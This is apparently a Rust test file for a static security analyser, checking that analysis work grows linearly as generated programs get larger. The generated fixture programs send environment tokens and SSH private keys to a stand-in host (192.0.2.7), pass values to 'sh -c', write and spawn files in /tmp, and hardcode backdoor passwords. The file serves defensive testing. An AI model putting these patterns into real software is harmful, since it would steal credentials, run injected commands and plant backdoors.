//! The work grows with the code and no faster: packages made of many equal parts are analysed
//! at two sizes, and the looks that the analysis took are compared. No clock is asked.
//!
//! Four times the code may take somewhat more than four times the work, since searches that are
//! bounded are cheap in the small package. Sixteen times would be a walk over all pairs.

use std::path::PathBuf;

use overt::check::{Options, check};
use overt::files::FileSystem;

/// Parts of the small package; the large one has four times as many.
const PARTS: usize = 250;
/// Between linear, 4, and quadratic, 16.
const MOST: f64 = 6.5;

/// How much work a package with this `main.rs` takes.
fn work(code: String) -> usize {
    let manifest = "[package]\nname = \"made\"\nversion = \"0.1.0\"\nedition = \"2021\"\n";
    let files = [
        (PathBuf::from("/made/Cargo.toml"), manifest.to_owned()),
        (PathBuf::from("/made/src/main.rs"), code),
    ];
    let options = Options {
        paths: vec![PathBuf::from("/made")],
        system: FileSystem::memory(files),
        ..Options::default()
    };
    let checked = check(&options, &|_| {}).unwrap_or_else(|error| panic!("{error}"));
    assert_eq!(checked.report.unanalysed, []);
    checked.report.summary.work
}

/// Asserts that the work for `make(4 * PARTS)` is about four times the work for `make(PARTS)`.
fn is_linear(make: impl Fn(usize) -> String) {
    let (small, large) = (work(make(PARTS)), work(make(4 * PARTS)));
    assert!(small > PARTS, "work that is not counted says nothing: {small}");
    let ratio = large as f64 / small as f64;
    assert!(ratio < MOST, "{small} for one, {large} for four times the code: {ratio:.1}");
    assert!(ratio > 2.0, "{small} for one, {large} for four times the code: {ratio:.1}");
}

fn each(parts: usize, part: impl Fn(usize) -> String) -> String {
    (0..parts).map(part).collect()
}

#[test]
fn a_chain_of_calls() {
    is_linear(|parts| {
        let links = each(parts, |i| {
            format!("fn f{i}(x: String) -> String {{ f{}(format!(\"{{x}}a\")) }}\n", i + 1)
        });
        format!(
            "fn main() {{ f0(std::env::var(\"TOKEN\").unwrap()); }}\n{links}\
             fn f{parts}(x: String) -> String {{ std::fs::write(\"/tmp/o\", &x).unwrap(); x }}\n"
        )
    });
}

#[test]
fn many_callers_of_one_helper() {
    is_linear(|parts| {
        let calls = each(parts, |i| format!("f{i}();"));
        let callers = each(parts, |i| {
            format!(
                "fn f{i}() {{ let x = std::env::var(\"TOKEN{i}\").unwrap(); send(x.clone()); \
                 std::process::Command::new(\"sh\").arg(\"-c\").arg(&x).spawn(); }}\n"
            )
        });
        format!(
            "use std::io::Write;\nfn main() {{ {calls} }}\n{callers}\
             fn send(x: String) {{ let mut s = std::net::TcpStream::connect(\"192.0.2.7:80\")\
             .unwrap(); s.write_all(x.as_bytes()).unwrap(); }}\n"
        )
    });
}

#[test]
fn many_flows_beside_each_other() {
    is_linear(|parts| {
        let calls = each(parts, |i| format!("f{i}();"));
        let flows = each(parts, |i| {
            format!(
                "fn f{i}() {{ let x = std::fs::read_to_string(\"/home/u/.ssh/id_rsa{i}\").unwrap();\n\
                 let mut s = std::net::TcpStream::connect(\"192.0.2.7:{i}\").unwrap();\n\
                 s.write_all(x.as_bytes()).unwrap(); std::fs::write(\"/tmp/p{i}\", &x).unwrap();\n\
                 std::process::Command::new(\"/tmp/p{i}\").spawn().unwrap(); }}\n"
            )
        });
        format!("use std::io::Write;\nfn main() {{ {calls} }}\n{flows}")
    });
}

#[test]
fn many_statics_and_types() {
    is_linear(|parts| {
        let uses = each(parts, |i| format!("println!(\"{{}}\", S{i}); A{i}.go();"));
        let items = each(parts, |i| {
            format!(
                "static S{i}: &str = concat!(\"a{i}\", \"b\");\nstruct A{i};\n\
                 impl T for A{i} {{ fn go(&self) -> String {{ S{i}.to_string() }} }}\n"
            )
        });
        format!("trait T {{ fn go(&self) -> String; }}\nfn main() {{ {uses} }}\n{items}")
    });
}

#[test]
fn one_long_function() {
    is_linear(|parts| {
        let lines = each(parts, |i| {
            format!(
                "let v{i} = std::env::var(\"TOKEN{i}\").unwrap();\n\
                 s.write_all(v{i}.as_bytes()).unwrap(); help(&v{i});\n"
            )
        });
        format!(
            "use std::io::Write;\nfn help(x: &str) {{ println!(\"{{x}}\"); }}\nfn main() {{\n\
             let mut s = std::net::TcpStream::connect(\"192.0.2.7:80\").unwrap();\n{lines}}}\n"
        )
    });
}

#[test]
fn many_checks_of_passwords() {
    is_linear(|parts| {
        each(parts, |i| {
            format!(
                "pub fn check{i}(password: &str) -> bool {{ if password == \"hunter{i}xx\" \
                 {{ return true; }} std::env::var(\"TOKEN\").is_ok_and(|t| t == password) }}\n"
            )
        }) + "fn main() {}\n"
    });
}

#[test]
fn names_that_import_each_other_in_circles() {
    is_linear(|parts| {
        each(parts, |i| {
            let next = (i + 1) % parts;
            format!(
                "pub mod m{i} {{ pub use super::m{next}::far; pub use super::m{next}::f{next};\n\
                 pub fn f{i}() -> String {{ f{next}() }} }}\n"
            )
        }) + "fn main() { m0::f0(); m0::far(); }\n"
    });
}
